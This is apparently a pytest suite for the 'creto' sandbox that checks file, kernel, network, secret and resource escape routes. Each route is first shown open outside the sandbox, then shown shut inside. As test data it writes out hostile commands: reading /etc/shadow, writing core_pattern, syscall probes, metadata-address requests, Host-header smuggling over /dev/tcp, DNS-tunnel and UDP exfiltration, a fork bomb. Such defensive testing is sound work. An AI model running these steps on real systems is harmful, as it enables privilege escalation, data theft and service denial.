"""Ways out of a sandbox, each first shown to be open without it: a way that is shut for everybody proves nothing."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from creto.errors import IntegrityError, UnauthorizedError
from creto.runtime import Connection
from sandboxes import BACKENDS, Answers, Bench, Served, http_server, own_address, served, sh, skip_unless, udp_server

pytestmark = pytest.mark.anyio

SMALL = {
    "warm_pool_min_size": 1,
    "warm_pool_max_size": 3,
    "disk_limit_bytes": 4 << 20,
    "scratch_limit_bytes": 4 << 20,
    "memory_limit_bytes": 256 << 20,
    "max_processes": 40,
}


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module", params=BACKENDS)
def pool(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(request.param, tmp_path_factory.mktemp("state"), SMALL) as pool:
        yield pool


@pytest.fixture
def bench(pool: Served, tmp_path: Path) -> Bench:
    return pool.bench(tmp_path / "project")


def outside(script: str) -> str:
    """The same script without a sandbox."""
    return subprocess.run(
        ["bash", "-c", f"exec 2>&1; {script}"], capture_output=True, text=True, timeout=60
    ).stdout.strip()


# --- files ------------------------------------------------------------------------------------------------------------


async def test_the_machine_s_secrets_are_not_in_view(bench: Bench, tmp_path: Path) -> None:
    outer = tmp_path / "secret.txt"
    outer.write_text("outer secret\n")
    (bench.project / "link").symlink_to(outer)
    (bench.project / "climb").symlink_to("../secret.txt")
    tries = {
        "shadow": "cat /etc/shadow",
        "absolute": f"cat {outer}",
        "link": f"cat {bench.project}/link",
        "climb": f"cat {bench.project}/climb",
        "root of a process": f"cat /proc/{os.getpid()}/root/etc/shadow",
        "state": f"ls {bench.state}",
        "logs and services": "ls /var/log /run/systemd",
    }
    open_outside = {name for name, script in tries.items() if "No such file" not in outside(script)}
    assert {"shadow", "absolute", "link", "climb", "root of a process", "state"} <= open_outside
    async with bench.box() as box:
        for name, script in tries.items():
            text = await sh(box, script)
            assert "No such file" in text or "Permission denied" in text, f"{name}: {text}"
            assert "outer secret" not in text
            assert "root:" not in text


async def test_processes_of_the_machine_are_not_there(bench: Bench) -> None:
    mine = str(os.getpid())
    assert mine in outside("ls /proc")
    assert "alive" in outside(f"kill -0 {mine} && echo alive")
    async with bench.box() as box:
        seen = [name for name in (await sh(box, "ls /proc")).split() if name.isdigit()]
        assert len(seen) < 15
        assert "alive" not in await sh(box, f"kill -0 {os.getppid() + 10_000} && echo alive")
        assert "-m pytest" not in await sh(box, "cat /proc/[0-9]*/cmdline | tr '\\0' ' '")


async def test_the_machine_itself_cannot_be_changed(bench: Bench) -> None:
    assert outside("test -w /proc/sys/kernel/core_pattern && echo writable") == "writable"
    async with bench.box() as box:
        for script in (
            "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
            "echo x > /usr/bin/creto-was-here",
            "mount -t tmpfs x /mnt",
            "unshare -Ur true",
            "chroot / true",
            "mknod /tmp/disk b 254 0 && cat /tmp/disk",
        ):
            text = await sh(box, f"({script}) && echo done-it")
            assert "done-it" not in text, f"{script}: {text}"
    assert not Path("/usr/bin/creto-was-here").exists()


async def test_programs_have_no_capability_and_cannot_get_one(bench: Bench) -> None:
    async with bench.box() as box:
        status = dict(
            line.split(":\t", 1) for line in (await sh(box, "cat /proc/self/status")).splitlines() if ":\t" in line
        )
        assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == int(status["CapBnd"], 16) == 0
        assert status["NoNewPrivs"] == "1"
        assert "Operation not permitted" in await sh(box, "python3 -c 'import os; os.setgroups([0, 42])'")


async def test_a_link_out_of_the_overlay_is_never_followed_when_changes_are_carried_out(
    bench: Bench, tmp_path: Path
) -> None:
    target = tmp_path / "authorized_keys"
    target.write_text("mine\n")
    # Without the measure: a plain copy of what the program left follows the link.
    left = tmp_path / "left"
    left.mkdir()
    (left / "notes").write_text("theirs\n")
    (bench.project / "notes").symlink_to(target)
    shutil.copyfile(left / "notes", bench.project / "notes")
    assert target.read_text() == "theirs\n"
    target.write_text("mine\n")
    (bench.project / "notes").unlink()

    async with bench.box() as box:
        await sh(
            box,
            f"ln -s {target} absolute; ln -s ../../x climbing; ln -s inner fine; mkfifo pipe; touch su; chmod 4755 su",
        )
        refused = {c.path: c.refused for c in await box.changes()}
        assert refused["fine"] is None
        assert "outside the working folder" in (refused["absolute"] or "")
        assert "outside the working folder" in (refused["climbing"] or "")
        # gVisor makes no pipe on a folder of the host in the first place.
        assert bench.backend == "gvisor" or "is not carried out" in (refused["pipe"] or "")
        assert "setuid" in (refused["su"] or "")
        for change in await box.changes():
            if change.refused:
                with pytest.raises(UnauthorizedError):
                    await box.apply([change])
    assert list(bench.project.iterdir()) == []

    # A folder of the real tree is swapped for a link after the listing.
    (bench.project / "sub").mkdir()
    async with bench.box() as box:
        await sh(box, "echo theirs > sub/authorized_keys")
        listed = await box.changes()
        (bench.project / "sub").rmdir()
        (bench.project / "sub").symlink_to(tmp_path)
        with pytest.raises(Exception, match="sub/authorized_keys"):
            await box.apply(listed)
    assert target.read_text() == "mine\n"


async def test_a_hard_link_of_the_real_tree_is_replaced_not_written_through(bench: Bench, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.write_text("mine\n")
    (bench.project / "twin").hardlink_to(target)
    with (bench.project / "twin").open("r+") as file:
        file.write("THEM\n")
    assert target.read_text() == "THEM\n", "without the measure a write goes through the second name"
    target.write_text("mine\n")
    async with bench.box() as box:
        await sh(box, "echo theirs > twin")
        await box.apply(await box.changes())
    assert (bench.project / "twin").read_text() == "theirs\n"
    assert target.read_text() == "mine\n"


async def test_a_mode_changed_after_the_agreement_is_not_carried_out(bench: Bench) -> None:
    """The content is what was agreed to; that it runs as a program was not."""
    (bench.project / "tool").write_text("echo mine\n")
    async with bench.box() as box:
        await sh(box, "echo echo theirs > tool")
        agreed = await box.changes()
        await sh(box, "chmod 755 tool")
        with pytest.raises(IntegrityError, match="no longer what was agreed to"):
            await box.apply(agreed)
        assert (bench.project / "tool").read_text() == "echo mine\n"
        await box.apply(await box.changes())
    assert (bench.project / "tool").stat().st_mode & 0o777 == 0o755


async def test_files_of_holes_cost_nothing_to_list_and_are_not_carried_out(bench: Bench) -> None:
    """Each claims to be as large as a file may be: a plain listing reads all of them, and a plain copy writes it."""
    make = "import os\nfor n in range(2000):\n with open(f'h{n}', 'wb') as f: f.truncate(4 << 20)\n"
    (bench.project / "outside").mkdir()
    subprocess.run([sys.executable, "-c", make], cwd=bench.project / "outside", check=True)
    assert sum(path.stat().st_size for path in (bench.project / "outside").iterdir()) == 2000 * (4 << 20)
    shutil.rmtree(bench.project / "outside")
    async with bench.box() as box:
        text = await sh(box, f'python3 -c "{make}"; echo kept > small')
        found = await box.changes(diff=False)
        fine = [change.path for change in found if change.refused is None]
        holes = [change for change in found if change.refused and "full of holes" in change.refused]
        assert len(holes) >= 100, text
        assert len(fine) <= 2
        with pytest.raises(UnauthorizedError, match="full of holes"):
            await box.apply(holes[:1])


async def test_edges_of_the_kernel_are_shut(bench: Bench) -> None:
    """System calls that sandboxes were left by before; those of them that any user may make are open outside."""
    probe = textwrap.dedent("""
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        def call(name, number, *arguments):
            if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) >= 0:
                print("open:", name)
        call("keyctl", 250, 0, -3, 0)
        call("add_key", 248, 0, 0, 0, 0, 0)
        call("io_uring", 425, 8, id(0))
        call("userns", 272, 0x10000000)
        call("ptrace", 101, 16, 1, 0, 0)
        call("bpf", 321, 0, 0, 0)
        call("perf", 298, 0, 0, -1, -1, 0)
        call("userfaultfd", 323, 0)
        for protocol in (33, 132, 136):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol)
                print("open: protocol", protocol)
            except OSError:
                pass
        for family in (15, 16, 9, 12):
            try:
                socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family)
                print("open: netlink", family)
            except OSError:
                pass
        for place in ("mem", "environ", "maps", "root", "cwd", "fd/3"):
            try:
                os.stat(f"/proc/1/{place}/") if place in ("root", "cwd") else open(f"/proc/1/{place}", "rb").read(1)
                print("open: of the first process:", place)
            except OSError:
                pass
        """)
    told = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True).stdout
    assert "open: keyctl" in told or "open: userns" in told
    async with bench.box() as box:
        result = await box.run(["python3", "-c", probe])
        assert result.status == 0, result.stderr
        assert b"of the first process" not in result.stdout
        # gVisor answers such calls itself, and none of them gets to the machine's kernel.
        assert bench.backend == "gvisor" or result.stdout == b""
        descriptors = (await box.run(["bash", "-c", "ls /proc/self/fd"])).stdout.split()
        assert descriptors in ([b"0", b"1", b"2", b"3"], [b"0", b"1", b"2"]), (
            "none is inherited; one is the listing's own"
        )


async def test_a_socket_without_a_file_does_not_reach_the_machine(bench: Bench) -> None:
    name = f"\0creto-{os.urandom(6).hex()}"
    connect = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({name!r}); print('reached')"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        assert subprocess.run([sys.executable, "-c", connect], capture_output=True, text=True).stdout == "reached\n"
        async with bench.box() as box:
            assert b"reached" not in (await box.run(["python3", "-c", connect])).stdout


# --- network ----------------------------------------------------------------------------------------------------------


async def test_literal_addresses_lead_nowhere(bench: Bench) -> None:
    with http_server(host="0.0.0.0") as (port, seen):
        here = own_address()
        addresses = ["127.0.0.1", here]
        for address in addresses:
            assert outside(f"curl -sS -m 5 http://{address}:{port}/") == "served"
        reached = len(seen)
        hooks = Answers(allow=["packages.example"])
        async with bench.box(hooks) as box:
            for address in (*addresses, "169.254.169.254", "[::1]", "10.111.0.1"):
                text = await sh(box, f"curl -sS -m 5 http://{address}:{port}/")
                assert "served" not in text, address
            refused = {c.host for c in box.connections}
        assert len(seen) == reached
        assert hooks.asked == []
        assert {here, "169.254.169.254"} - {"127.0.0.1"} <= refused


async def test_the_metadata_service_is_out_of_reach_by_name_too(bench: Bench) -> None:
    """The name is agreed to, and leads to an address of the machine's own network: it is not connected to."""
    assert socket.gethostbyname("localhost") == "127.0.0.1"
    with http_server() as (port, seen):
        assert outside(f"curl -sS -m 5 http://localhost:{port}/") == "served"
        hooks = Answers(allow=["localhost.localdomain", "ip6-localhost.localdomain"])
        async with bench.box(hooks) as box:
            for name in hooks.allow:
                assert "served" not in await sh(box, f"curl -sS -m 10 http://{name}:{port}/")
            reasons = [c.reason or "" for c in box.connections]
        assert len(seen) == 1
        assert len(reasons) == 2
        assert all("not public" in reason or "cannot be resolved" in reason for reason in reasons)


async def test_one_name_is_no_way_to_another(bench: Bench) -> None:
    """Agreed to `packages.example`; Host, target and TLS name say something else."""
    async with bench.box(Answers(allow=["packages.example"])) as box:
        for script in (
            "curl -sS -m 5 -H 'Host: other.example' http://packages.example/",
            "curl -sS -m 5 --connect-to other.example:443:packages.example:443 -k https://other.example/",
            "curl -sS -m 5 -x http://packages.example:80 http://other.example/",
            "printf 'GET / HTTP/1.1\\r\\nHost: packages.example\\r\\n\\r\\n"
            "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n' "
            "| timeout 5 bash -c 'exec 3<>/dev/tcp/packages.example/80; cat >&3; cat <&3' | grep -c served",
        ):
            text = await sh(box, script)
            assert "served" not in text, f"{script}: {text}"
            assert not text.endswith("2")
        assert any("names another host" in (c.reason or "") for c in box.connections)
    assert all(request.startswith("packages.example/") for request in bench.seen), bench.seen


async def test_no_request_hides_from_policy(bench: Bench) -> None:
    """Plain HTTP on another port, behind what servers pass over: each is asked about or ends the connection."""
    asked: list[str] = []

    class Strict(Answers):
        async def request(self, connection: Connection, method: str, target: str) -> bool:
            asked.append(f"{method} {target}")
            return method == "GET"

    head = "Host: packages.example:8000\\r\\n"
    scripts = {
        "an empty line first": f"\\r\\nGET /blank HTTP/1.1\\r\\n{head}\\r\\n",
        "small letters": f"get /small HTTP/1.1\\r\\n{head}\\r\\n",
        "a bare line feed": f"GET /bare HTTP/1.1\\n{head}\\r\\n\\r\\n",
        "a trailer": f"GET /open HTTP/1.1\\r\\n{head}Transfer-Encoding: chunked\\r\\n\\r\\n"
        f"0\\r\\nX: y\\n\\nGET /hidden HTTP/1.1\\r\\n{head}\\r\\n",
    }
    async with bench.box(Strict(allow=["packages.example"])) as box:
        for name, bytes_ in scripts.items():
            for wait in ("", "sleep 0.5;"):  # long enough that the server is taken for the one who speaks first
                await sh(
                    box,
                    f"exec 3<>/dev/tcp/packages.example/8000; {wait} printf '{bytes_}' >&3; timeout 2 cat <&3 | wc -c",
                )
                assert all(request.endswith("/open") for request in bench.seen), name
        assert set(asked) <= {"GET /open"}


async def test_datagrams_and_name_look_ups_carry_nothing_out(bench: Bench) -> None:
    here = own_address()
    send = "python3 -c \"import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'secret', ('{}', {}))\""
    with udp_server() as (server, port):
        outside(send.format(here, port))
        assert server.recv(100) == b"secret"
        async with bench.box() as box:
            for address, to in ((here, port), ("127.0.0.1", port), (here, 53), ("8.8.8.8", 53)):
                await sh(box, send.format(address, to))
            with pytest.raises(TimeoutError):
                server.recv(100)
            names = "import socket\nfor n in range(50): socket.gethostbyname(f'{n}-c2VjcmV0.tunnel.example')\n"
            assert (await box.run(["python3", "-c", names])).status == 0
            text = await sh(box, "python3 -c \"import socket; print(socket.gethostbyname('c2VjcmV0.tunnel.example'))\"")
            assert text.startswith("198.18."), (
                "a name gets an address that stands for it, and no question leaves the machine"
            )
            assert box.connections == []


async def test_raw_packets_and_other_families_are_refused(bench: Bench) -> None:
    tries = {
        "icmp": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
        "vsock": "socket.socket(40, socket.SOCK_STREAM).connect((2, 1024))",
        "ipv6": "socket.create_connection(('2606:2800:21f:cb07:6820:80da:af6b:8b2c', 80), 3)",
    }
    assert outside(f"python3 -c \"import socket; {tries['icmp']}; print('made')\"") == "made"
    async with bench.box() as box:
        for name, call in tries.items():
            text = await sh(box, f"python3 -c \"import socket; {call}; print('made')\"")
            assert not text.endswith("made"), f"{name}: {text}"


async def test_sockets_of_the_machine_cannot_be_reached_through_the_folder(bench: Bench) -> None:
    path = bench.project / "service.sock"
    connect = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect({str(path)!r}); print(s.recv(10))"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        server.settimeout(60)
        client = subprocess.Popen([sys.executable, "-c", connect], stdout=subprocess.PIPE)
        accepted, _ = server.accept()
        accepted.sendall(b"secret")
        accepted.close()
        assert client.communicate()[0] == b"b'secret'\n"
        async with bench.box() as box:
            result = await box.run(["python3", "-c", connect])
            assert result.status != 0
            assert b"secret" not in result.stdout


# --- secrets ----------------------------------------------------------------------------------------------------------


def _seen_in(secret: bytes, folders: list[Path]) -> list[str]:
    """Where a secret can be read: arguments of processes, and files."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if secret in (entry / "cmdline").read_bytes():
                    found.append(str(entry / "cmdline"))
            except OSError:
                continue
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                with contextlib.suppress(OSError):  # a namespace, mounted on a file
                    if secret in path.read_bytes():
                        found.append(str(path))
    return found


async def test_secrets_are_in_no_argument_and_no_file(bench: Bench, tmp_path: Path) -> None:
    secret = b"s3cret-" + os.urandom(8).hex().encode()
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "config.json").write_bytes(b'{"env": ["TOKEN=' + secret + b'"]}')
    careless = subprocess.Popen(["sleep", "30", secret.decode()[:0] or "1", secret.decode()], stderr=subprocess.DEVNULL)
    careless_shell = subprocess.Popen(["bash", "-c", f"sleep 5; : {secret.decode()}"])
    await anyio.sleep(0.1)
    assert len(_seen_in(secret, [bundle])) >= 2, "the search finds a secret where there is one"
    for process in (careless, careless_shell):
        process.kill()
        process.wait()
    (bundle / "config.json").unlink()

    async with bench.box(secrets={"TOKEN": secret.decode()}) as box:
        program = await box.start(["bash", "-c", "echo $TOKEN; touch ready; sleep 60"])
        with anyio.fail_after(60):
            while (await box.run(["test", "-e", "ready"])).status != 0:
                await anyio.sleep(0.02)
        assert _seen_in(secret, [tmp_path, bench.state]) == []
        mounts = _private_mounts(bench.state)
        assert mounts, "the folder of bundles is found"
        assert _seen_in(secret, mounts) == []
        program.signal(9)
        assert secret in (await program.wait()).stdout


def _private_mounts(state: Path) -> list[Path]:
    """The tmpfs with bundles and slots, as the thread that starts sandboxes sees it."""
    for task in Path("/proc/self/task").iterdir():
        if (task / "comm").read_text().strip() == "creto-host" and str(state) in (task / "mountinfo").read_text():
            return [
                folder
                for folder in (task / "root" / str(state).lstrip("/") / "sandbox").iterdir()
                if "creto-" in folder.name
            ]
    return []


# --- exhaustion -------------------------------------------------------------------------------------------------------


async def test_a_fork_bomb_ends_at_its_limit(bench: Bench) -> None:
    bomb = textwrap.dedent("""
        import os, time
        made = []
        try:
            for _ in range(80):
                pid = os.fork()
                if pid == 0:
                    time.sleep(30)
                    os._exit(0)
                made.append(pid)
        except OSError:
            pass
        print(len(made))
        for pid in made:
            os.kill(pid, 9)
        """)
    assert int(subprocess.run([sys.executable, "-c", bomb], capture_output=True, text=True).stdout) == 80
    async with bench.box() as box:
        result = await box.run(["python3", "-c", bomb])
        assert int(result.stdout) < SMALL["max_processes"], result.stderr
        assert (await box.run(["echo", "still there"])).stdout == b"still there\n"


HOLDING = """
import socket, sys
place = (socket.gethostbyname("anywhere.example"), 80)
held = []
for _ in range(250):
    one = socket.socket()
    one.connect(place)
    one.sendall(b"G")
    held.append(one)
print("held", flush=True)
sys.stdin.read()
"""
FEW = """
import os, resource, sys, tempfile
import anyio, creto
resource.setrlimit(resource.RLIMIT_NOFILE, (200, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
backend, holding, state, project = sys.argv[1:]

async def main():
    async with creto.open(state) as layer:
        async with layer.sandbox(layer.agent("many"), project, backend=backend) as box:
            (input_, keep), (came, output) = os.pipe(), os.pipe()
            program = await box.start(["python3", "-c", holding], stdin=input_, stdout=output)
            with anyio.fail_after(60):
                assert await anyio.to_thread.run_sync(os.read, came, 10) == b"held\\n"
            await anyio.sleep(0.5)
            done = await layer.perform(layer.agent("other"), "tool:call", "add", lambda: 7)
            with tempfile.TemporaryFile():
                print("done", done)
            program.signal(9)

anyio.run(main)
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_connections_that_say_nothing_take_no_descriptors_from_others(
    state: Path, tmp_path: Path, backend: str
) -> None:
    """None of them was let through, and each is held here until it says where it goes."""
    skip_unless(backend)
    (tmp_path / "project").mkdir()
    command = [sys.executable, "-c", FEW, backend, HOLDING, str(state), str(tmp_path / "project")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.stdout == "done 7\n", done.stderr


async def test_a_full_disk_is_the_sandbox_s_own(bench: Bench, tmp_path: Path) -> None:
    fill = "dd if=/dev/zero of={}/big bs=1M count=8 2>&1 | tail -1; stat -c %s {}/big"
    assert outside(fill.format(tmp_path, tmp_path)).endswith(str(8 << 20))
    async with bench.box() as box:
        for place, most in ((bench.project, SMALL["disk_limit_bytes"]), (Path("/tmp"), SMALL["scratch_limit_bytes"])):
            text = await sh(box, fill.format(place, place))
            assert int(text.split()[-1]) <= most, text
        await sh(box, f"rm {bench.project}/big; echo fine > {bench.project}/small")
        assert [c.path for c in await box.changes()] == ["small"]


async def test_memory_ends_at_its_limit(bench: Bench) -> None:
    take = "x = bytearray(400 << 20); print('took it')"
    assert outside(f'python3 -c "{take}"') == "took it"
    async with bench.box() as box:
        result = await box.run(["python3", "-c", take])
        assert b"took it" not in result.stdout
        assert (await box.run(["echo", "still there"])).stdout == b"still there\n"


async def test_a_sandbox_is_in_a_control_group_that_goes_with_it(bench: Bench) -> None:
    facts = await bench.pool.facts()
    if not facts["controlGroup"]:
        pytest.skip("this machine lets nobody make a control group")
    async with bench.box() as box:
        held = [
            path for path in Path("/sys/fs/cgroup").glob(f"**/creto/{box.id}") if (path / "cgroup.procs").read_text()
        ]
        assert held, "the sandbox's processes are in a group of its name"
    assert not [path for path in held if path.exists()]
